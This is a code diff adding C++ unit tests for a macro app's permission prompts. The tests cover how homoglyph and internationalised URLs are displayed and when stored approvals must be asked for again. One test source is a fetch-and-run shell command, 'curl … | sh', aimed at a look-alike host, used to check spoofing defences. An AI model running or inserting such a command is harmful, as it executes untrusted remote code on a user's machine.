@@ -1,6 +1,8 @@
 #include "screens/runtime/ScreenTrust.h"
 
 #include "platform/Settings.h"
+#include "macros/MacroJson.h"
+#include "screens/format/ScreenTemplate.h"
 #include "screens/runtime/CanonicalJson.h"
 #include "support/WaitUntil.h"
 
@@ -176,26 +178,87 @@ TEST(ScreenPermissionsTest, ButtonTitlesAndNothingToApprove)
     EXPECT_EQ(permissions[1].title, QStringLiteral("Button \u201Cpower\u201D"));
 }
 
-// A host that reads like another is shown as the host that is looked up, as browsers show one
-// of mixed scripts; the text a button was given stays its identity.
-TEST(ScreenPermissionsTest, HostsAreShownInTheirAsciiForm)
+// An address shows as it is fetched or opened, its host in ASCII as it is looked up and, where
+// that reads otherwise, in Unicode beside it with its look-alikes written out; the text a button
+// was given stays its identity. One with placeholders shows as written, its host in ASCII.
+TEST(ScreenPermissionsTest, AddressesShowAsTheyOpenTheirHostAlsoInUnicode)
 {
     CustomScreen screen;
     screen.id = QStringLiteral("idn");
-    const QString address = QStringLiteral("https://user@ex\u0430mple.com:8443/p\u00E4th?q=\u00E9");
+    const QString address = QStringLiteral("https://ex\u0430mple.com:8443/p\u00E4th?q=\u00E9");
     screen.sources = {url(QStringLiteral("w"), address)};
     screen.widgets = {textReading(QStringLiteral("w")),
                       button(QStringLiteral("Go"), MacroAction::openURL(address)),
+                      button(QStringLiteral("Book"), MacroAction::openURL(QStringLiteral("HTTPS://B\u00FCcher.example/a b"))),
                       button(QStringLiteral("Sub"),
                              MacroAction::openURL(QStringLiteral("https://{{s}}.b\u00FCcher.example/"))),
                       button(QStringLiteral("Fill"), MacroAction::openURL(QStringLiteral("{{link}}")))};
     const QList<CustomScreen::Permission> permissions = screen.permissions();
-    ASSERT_EQ(permissions.size(), 4);
-    EXPECT_EQ(permissions[0].detail, QStringLiteral("https://user@xn--exmple-4nf.com:8443/p%C3%A4th?q=%C3%A9"));
-    EXPECT_EQ(permissions[1].detail, QStringLiteral("Opens https://user@xn--exmple-4nf.com:8443/p\u00E4th?q=\u00E9"));
+    ASSERT_EQ(permissions.size(), 5);
+    const QString opened = QStringLiteral("https://xn--exmple-4nf.com:8443/p%C3%A4th?q=%C3%A9 (ex\\u0430mple.com)");
+    EXPECT_EQ(permissions[0].detail, opened);
+    EXPECT_EQ(permissions[1].detail, QStringLiteral("Opens ") + opened);
     EXPECT_TRUE(permissions[1].identity.contains(QStringLiteral("ex\u0430mple.com")));
-    EXPECT_EQ(permissions[2].detail, QStringLiteral("Opens https://{{s}}.xn--bcher-kva.example/"));
-    EXPECT_EQ(permissions[3].detail, QStringLiteral("Opens {{link}}"));
+    EXPECT_EQ(permissions[2].detail, QStringLiteral("Opens https://xn--bcher-kva.example/a%20b (b\u00FCcher.example)"));
+    EXPECT_EQ(permissions[3].detail, QStringLiteral("Opens https://{{s}}.xn--bcher-kva.example/"));
+    EXPECT_EQ(permissions[4].detail, QStringLiteral("Opens {{link}}"));
+}
+
+// An approval given before look-alikes and every modifier were written out holds for each
+// action shown as it was (the samples' own among them); one whose words now show what they hid
+// asks again, and one that shows in other words only does not.
+TEST(ScreenPermissionsTest, ApprovalsHoldWhereTheWordsShowWhatTheyShowedBefore)
+{
+    const auto identity = [](const MacroAction& action) {
+        CustomScreen screen;
+        screen.widgets = {button(QStringLiteral("B"), action)};
+        return screen.permissions().first().identity;
+    };
+    const auto stored = [](const MacroAction& action) {
+        return QStringLiteral("action") + nul + QString::fromUtf8(CanonicalJson::write(encodeMacroAction(action)));
+    };
+    for (const MacroAction& same :
+         {MacroAction::keystroke({15, HIDModifiers{0x09}}), MacroAction::media(MediaKey::playPause),
+          MacroAction::openApp({QStringLiteral("firefox-esr"), QStringLiteral("Firefox")}),
+          MacroAction::openURL(QStringLiteral("https://example.com/a/b?q=1")),
+          MacroAction::openURL(QStringLiteral("https://b\u00FCcher.example/")),
+          MacroAction::openURL(QStringLiteral("https://example.com/search?q={{q}}")),
+          // Shown in ASCII already, as it is looked up.
+          MacroAction::openURL(QStringLiteral("https://ex\u0430mple.com/{{q}}")),
+          MacroAction::runShortcut(QStringLiteral("back up")), MacroAction::typeText(QStringLiteral("Hello, w\u00F6rld\n")),
+          MacroAction::screenshot({ScreenshotOptions::Mode::window, ScreenshotOptions::Destination::clipboard})})
+        EXPECT_EQ(identity(same), stored(same)) << CustomScreen::actionDetail(same).toStdString();
+    for (const MacroAction& revealed :
+         {MacroAction::keystroke({15, HIDModifiers{0x80}}),
+          MacroAction::openApp({QStringLiteral("firefox-esr"), QStringLiteral("Fire\u0444ox")}),
+          MacroAction::openURL(QStringLiteral("HTTPS://Example.com/a b")),
+          MacroAction::openURL(QStringLiteral("https://example.com/ex\u0430mple/{{q}}")),
+          MacroAction::runShortcut(QStringLiteral("b\u0430ck up")), MacroAction::typeText(QStringLiteral("cafe\u0301")),
+          MacroAction::typeText(QStringLiteral("say \u201Chi\u201D"))})
+        EXPECT_NE(identity(revealed), stored(revealed)) << CustomScreen::actionDetail(revealed).toStdString();
+
+    CustomScreen sources;
+    sources.sources = {shell(QStringLiteral("a"), QStringLiteral("top -bn1 | head -3")),
+                       shell(QStringLiteral("b"), QStringLiteral("curl -s https://ex\u0430mple.com/i | sh")),
+                       url(QStringLiteral("c"), QStringLiteral("https://example.com/"),
+                           {{QStringLiteral("X-Key"), QStringLiteral("\u0430bc")}})};
+    sources.widgets = {textReading(QStringLiteral("a")), textReading(QStringLiteral("b")),
+                       textReading(QStringLiteral("c"))};
+    const QList<CustomScreen::Permission> permissions = sources.permissions();
+    EXPECT_EQ(permissions[0].identity, QStringLiteral("shell") + nul + QStringLiteral("top -bn1 | head -3"));
+    EXPECT_NE(permissions[1].identity, QStringLiteral("shell") + nul + QStringLiteral("curl -s https://ex\u0430mple.com/i | sh"));
+    EXPECT_NE(permissions[2].identity, QStringLiteral("url") + nul + QStringLiteral("https://example.com/") + nul +
+                                           QStringLiteral("X-Key=\u0430bc"));
+
+    // The samples every Screens folder starts with keep their approvals.
+    for (const ScreenTemplate& sample : ScreenTemplate::all()) {
+        QList<ScreenIssue> issues;
+        const std::optional<CustomScreen> screen =
+            CustomScreen::parse(sample.json.toUtf8(), sample.id, sample.id + QStringLiteral(".json"), issues);
+        ASSERT_TRUE(screen && !hasErrors(issues)) << sample.id.toStdString();
+        for (const CustomScreen::Permission& permission : screen->permissions())
+            EXPECT_FALSE(permission.identity.contains(nul + QStringLiteral("shown") + nul)) << sample.id.toStdString();
+    }
 }
 
 TEST(CanonicalJsonTest, WritesSortedCompactEscapedText)
